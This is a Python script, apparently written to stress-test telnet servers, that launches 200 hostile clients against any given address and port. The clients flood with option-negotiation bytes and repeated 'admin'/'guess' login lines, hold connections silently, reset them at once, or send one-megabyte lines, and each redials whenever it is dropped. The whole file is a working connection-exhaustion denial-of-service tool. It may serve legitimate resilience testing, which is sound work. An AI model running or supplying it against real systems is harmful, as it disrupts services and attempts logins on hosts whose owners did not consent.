"""Hostile telnet clients: `telnet_attack.py ADDRESS PORT SECONDS SOURCE…` keeps COUNT connections
busy and prints what became of them as JSON.

A quarter each floods with telnet commands, says nothing at all, resets as soon as it is connected,
and sends a line of a megabyte. Whoever is hung up calls again.
"""

import json
import random
import selectors
import socket
import struct
import sys
import time

COUNT = 200
KINDS = ("flood", "silent", "reset", "megabyte")
LINGER_AND_RESET = struct.pack("ii", 1, 0)
FLOOD = b"\xff\xfd\x01\xff\xfa\x1f" + b"\xff\xfb\x18" * 2000 + b"admin\r\nguess\r\n" * 20
MEGABYTE = b"x" * 1_000_000
PAUSE_S = 0.05


class Attacker:
    """One of them."""

    def __init__(self, kind: str, source: str, target: tuple[str, int]) -> None:
        self.kind, self._source, self._target = kind, source, target
        self.connection: socket.socket | None = None
        self.left = b""
        self.calls = 0
        self.again_at = random.random() * PAUSE_S

    def call(self) -> socket.socket:
        self.calls += 1
        self.left = {"flood": FLOOD * 10, "megabyte": MEGABYTE}.get(self.kind, b"")
        connection = socket.socket()
        connection.setblocking(False)
        connection.bind((self._source, 0))
        connection.connect_ex(self._target)
        self.connection = connection
        return connection

    def hear(self) -> bool:
        """Read or write; False when the connection is over."""
        assert self.connection is not None
        try:
            if self.kind == "reset":
                self.connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, LINGER_AND_RESET)
                return False
            if self.left:
                self.left = self.left[self.connection.send(self.left) :]
                return True
            return bool(self.connection.recv(4096))
        except BlockingIOError:
            return True
        except OSError:
            return False


def attack(target: tuple[str, int], seconds: float, sources: list[str]) -> dict[str, int]:
    selector = selectors.DefaultSelector()
    attackers = [
        Attacker(KINDS[number % len(KINDS)], sources[number % len(sources)], target)
        for number in range(COUNT)
    ]
    end = time.monotonic() + seconds
    while (now := time.monotonic()) < end:
        for one in attackers:
            if one.connection is None and one.again_at <= now:
                selector.register(one.call(), selectors.EVENT_READ | selectors.EVENT_WRITE, one)
        for key, _ in selector.select(0.02):
            one = key.data
            if not one.hear():
                selector.unregister(key.fileobj)
                one.connection.close()
                one.connection, one.again_at = None, now + PAUSE_S
            elif not one.left:
                selector.modify(key.fileobj, selectors.EVENT_READ, one)
    return {kind: sum(one.calls for one in attackers if one.kind == kind) for kind in KINDS}


if __name__ == "__main__":
    address, port, seconds, *sources = sys.argv[1:]
    print(json.dumps(attack((address, int(port)), float(seconds), sources)))
